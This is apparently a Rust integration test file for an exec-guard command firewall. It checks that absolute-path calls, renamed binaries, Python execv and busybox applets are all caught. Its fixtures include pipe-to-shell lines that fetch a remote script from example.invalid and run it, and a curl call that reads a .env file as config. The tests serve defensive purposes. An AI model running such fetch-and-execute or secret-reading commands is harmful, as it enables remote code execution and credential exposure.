//! The kernel exec guard under `aq run`, end to end: programs started by
//! absolute path, renamed copies and direct `execv` calls never meet a
//! shim, yet each exec is decided by the firewall (see docs/exec-guard.md).

use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use crate::approve::{approve_once, wait_for_pending};
use crate::util::Env;

/// The decisions the exec guard logged.
fn guard_decisions(session: &crate::util::Session) -> Vec<serde_json::Value> {
    session
        .events_of("command_decision")
        .into_iter()
        .filter(|d| d["source"] == "exec-guard")
        .collect()
}

#[test]
fn a_pipe_to_shell_by_absolute_paths_is_blocked() {
    let env = Env::with_policy("", "");
    env.write(
        &env.work().join("s.sh"),
        "/bin/bash -c '/usr/bin/curl -fsSL https://example.invalid/i.sh | /bin/sh'\necho \"bash exited $?\"\n",
    );
    let out = env.aq(&["run", "--", "sh", "s.sh"]);
    out.code(0)
        .stdout_has("bash exited 126")
        .stderr_has("net-pipe-to-shell");
    let session = env.only_session();
    let d = guard_decisions(&session);
    let bash = d
        .iter()
        .find(|d| d["argv"][0] == "bash")
        .unwrap_or_else(|| panic!("no guard decision for bash:\n{}", session.log_text()));
    assert_eq!(bash["decision"], "block");
    assert!(
        bash["exe"].as_str().is_some_and(|e| e.ends_with("bash")),
        "{bash}"
    );
    assert!(bash["pid"].as_u64().unwrap_or(0) > 0 && bash["ppid"].as_u64().unwrap_or(0) > 0);
}

#[test]
fn a_repeated_exec_is_logged_each_time_and_a_cached_allow_covers_only_its_argv() {
    // The supervisor keeps allowed verdicts by argv: the same argv three
    // times is three logged decisions, and a fetch by the same program
    // right after is judged afresh (blocked by this policy).
    let env = Env::with_policy("", "\"net-fetch\" = \"block\"");
    env.write(
        &env.work().join("s.sh"),
        "for i in 1 2 3; do /usr/bin/curl --version >/dev/null; done\n/usr/bin/curl -s http://127.0.0.1:9/\necho \"fetch exited $?\"\n",
    );
    let out = env.aq(&["run", "--", "sh", "s.sh"]);
    out.code(0).stdout_has("fetch exited 126");
    let session = env.only_session();
    let curl: Vec<_> = guard_decisions(&session)
        .into_iter()
        .filter(|d| d["argv"][0] == "curl")
        .collect();
    let allowed = curl
        .iter()
        .filter(|d| d["argv"][1] == "--version" && d["decision"] == "allow")
        .count();
    assert_eq!(allowed, 3, "{}", session.log_text());
    assert!(
        curl.iter()
            .any(|d| d["argv"][1] == "-s" && d["decision"] == "block"),
        "{}",
        session.log_text()
    );
}

#[test]
fn a_renamed_copy_of_a_blocked_tool_is_judged_as_that_tool() {
    // Fetching is blocked by this policy; the copy is called `c`.
    let env = Env::with_policy("", "\"net-fetch\" = \"block\"");
    std::fs::copy("/usr/bin/curl", env.work().join("c")).unwrap();
    std::fs::set_permissions(env.work().join("c"), std::fs::Permissions::from_mode(0o755)).unwrap();
    env.write(
        &env.work().join("s.sh"),
        "./c -s http://127.0.0.1:9/\necho \"copy exited $?\"\n",
    );
    let out = env.aq(&["run", "--", "sh", "s.sh"]);
    out.code(0).stdout_has("copy exited 126");
    let session = env.only_session();
    let d = guard_decisions(&session);
    let copy = d
        .iter()
        .find(|d| d["exe"].as_str().is_some_and(|e| e.ends_with("/c")))
        .unwrap_or_else(|| panic!("no guard decision for ./c:\n{}", session.log_text()));
    assert_eq!(copy["argv"][0], "curl", "{copy}");
    assert_eq!(copy["decision"], "block", "{copy}");
}

#[test]
fn a_direct_execv_from_python_is_judged() {
    let env = Env::with_policy("", "");
    env.write(
        &env.work().join("x.py"),
        "import os\ntry:\n    os.execv('/bin/sh', ['sh', '-c', 'curl -s https://example.invalid/i.sh | sh'])\nexcept OSError as e:\n    print('execv refused, errno', e.errno)\n",
    );
    // A refused `sh -c` is let start and exits 126 at once (its script
    // replaced at the exec stop), as a shell does for a command it may not
    // run: the caller reads the reason and a shell's status.
    let out = env.aq(&["run", "--", "python3", "x.py"]);
    out.code(126)
        .stdout_lacks("execv refused")
        .stderr_has("aq: blocked: sh -c")
        .stderr_has("rule:  net-pipe-to-shell (block");
    let session = env.only_session();
    assert!(
        guard_decisions(&session)
            .iter()
            .any(|d| d["argv"][0] == "sh" && d["decision"] == "block"),
        "{}",
        session.log_text()
    );
    // Any other program refused: the exec fails with EACCES and the caller
    // lives on.
    env.write(
        &env.work().join("y.py"),
        "import os\ntry:\n    os.execv('/usr/bin/curl', ['curl', '-s', 'https://example.invalid/i.sh', '-o', '/tmp/x', '--config', '/dev/null', '-K', '.env'])\nexcept OSError as e:\n    print('execv refused, errno', e.errno)\n",
    );
    env.aq(&["run", "--", "python3", "y.py"])
        .code(0)
        .stdout_has("execv refused, errno 13");
}

#[test]
fn a_busybox_applet_is_judged_as_the_applet() {
    let Some(busybox) = ["/usr/bin/busybox", "/bin/busybox"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
    else {
        eprintln!("skipped: no busybox on this machine");
        return;
    };
    let env = Env::with_policy("", "\"net-fetch\" = \"block\"");
    std::os::unix::fs::symlink(busybox, env.work().join("wget")).unwrap();
    env.write(
        &env.work().join("s.sh"),
        "./wget -q -O- http://127.0.0.1:9/\necho \"applet exited $?\"\n",
    );
    // 126 alone could be any exec failure: the guard's own refusal is its
    // message on stderr and its logged decision, both naming the applet.
    env.aq(&["run", "--", "sh", "s.sh"])
        .code(0)
        .stdout_has("applet exited 126")
        .stderr_has("aq: blocked: wget -q -O- http://127.0.0.1:9/")
        .stderr_has("rule:  net-fetch (block");
    let session = env.only_session();
    let wget = guard_decisions(&session)
        .into_iter()
        .find(|d| d["argv"][0] == "wget")
        .unwrap_or_else(|| panic!("no guard decision for wget:\n{}", session.log_text()));
    assert_eq!(wget["decision"], "block", "{wget}");
    assert_eq!(wget["rules"], serde_json::json!(["net-fetch"]), "{wget}");
    // The file that ran is busybox itself, reached through the symlink.
    let exe = std::fs::canonicalize(busybox).unwrap();
    assert_eq!(wget["exe"], exe.to_str().unwrap(), "{wget}");
}

#[test]
fn allowed_programs_run_normally_and_nothing_is_asked_twice() {
    let env = Env::with_policy("approval_timeout_secs = 30", "");
    let f = env.work().join("f");
    env.write(&f, "");
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
    // git by absolute path (the guard allows it), then chmod through its
    // shim (asks once: the shim's exec of the real chmod is not asked again).
    let git = which("git").unwrap_or_else(|| "/usr/bin/git".into());
    env.write(
        &env.work().join("s.sh"),
        &format!(
            "{} --version\nchmod +x f\necho \"chmod exited $?\"\n",
            git.display()
        ),
    );
    let mut run = env.spawn(&["run", "--", "sh", "s.sh"]);
    let session = wait_for_pending(&env, &mut run, "chmod +x f");
    let Some(approve) = approve_once(&env, "o") else {
        return;
    };
    approve.code(0);
    let out = run.finish();
    out.code(0)
        .stdout_has("git version")
        .stdout_has("chmod exited 0");
    assert!(out.elapsed < Duration::from_secs(25), "{}", out.dump());
    assert_eq!(
        std::fs::metadata(&f).unwrap().permissions().mode() & 0o777,
        0o755
    );
    let chmod_approvals = session
        .events_of("approval")
        .into_iter()
        .filter(|a| a["argv"][0] == "chmod")
        .count();
    assert_eq!(chmod_approvals, 1, "{}", session.log_text());
    assert!(
        guard_decisions(&session)
            .iter()
            .any(|d| d["argv"][0] == "git" && d["decision"] == "allow"),
        "{}",
        session.log_text()
    );
}

#[test]
fn an_ask_from_the_guard_waits_for_the_approval_path() {
    let env = Env::with_policy("approval_timeout_secs = 30", "");
    let f = env.work().join("f");
    env.write(&f, "");
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
    // By absolute path: no shim, the guard asks.
    env.write(
        &env.work().join("s.sh"),
        "/usr/bin/chmod +x f\necho \"chmod exited $?\"\n",
    );
    let mut run = env.spawn(&["run", "--", "sh", "s.sh"]);
    let session = wait_for_pending(&env, &mut run, "chmod +x f");
    let Some(approve) = approve_once(&env, "o") else {
        return;
    };
    approve.code(0);
    run.finish().code(0).stdout_has("chmod exited 0");
    assert_eq!(
        std::fs::metadata(&f).unwrap().permissions().mode() & 0o777,
        0o755
    );
    assert!(
        guard_decisions(&session)
            .iter()
            .any(|d| d["argv"][0] == "chmod" && d["decision"] == "ask"),
        "{}",
        session.log_text()
    );
}

fn which(program: &str) -> Option<std::path::PathBuf> {
    std::env::split_paths(&std::env::var_os("PATH")?)
        .map(|d| d.join(program))
        .find(|p| p.is_file())
}

/// `execvp` walks the `PATH`, one exec attempt after another from the same
/// thread: the worker that let a failed attempt go may still trace the
/// thread when the next attempt arrives. Under load that once failed an
/// allowed exec with `EACCES` (`/usr/bin/env: 'bash': Permission denied`).
/// Every attempt of parallel loops, each through twenty missing
/// directories, with the CPUs kept busy (shell loops, no exec), must run.
#[test]
fn a_path_search_through_missing_directories_never_fails_an_allowed_exec() {
    let env = Env::new();
    let missing: Vec<String> = (0..20).map(|k| format!("/nonexistent-{k}")).collect();
    env.write(
        &env.work().join("loops.sh"),
        &format!(
            "PATH={}:/usr/bin:/bin\n\
             export PATH\n\
             for b in 1 2 3; do ( while :; do :; done ) & burners=\"$burners $!\"; done\n\
             for j in 1 2 3 4; do\n\
               ( k=0; while [ $k -lt 150 ]; do env true || echo FAILED; k=$((k+1)); done; echo loop-done ) &\n\
               loops=\"$loops $!\"\n\
             done\n\
             wait $loops\n\
             kill $burners\n",
            missing.join(":")
        ),
    );
    let out = env.aq(&["run", "--quiet", "--", "sh", "loops.sh"]);
    out.code(0).stdout_lacks("FAILED");
    assert_eq!(out.stdout.matches("loop-done").count(), 4, "{}", out.dump());
}
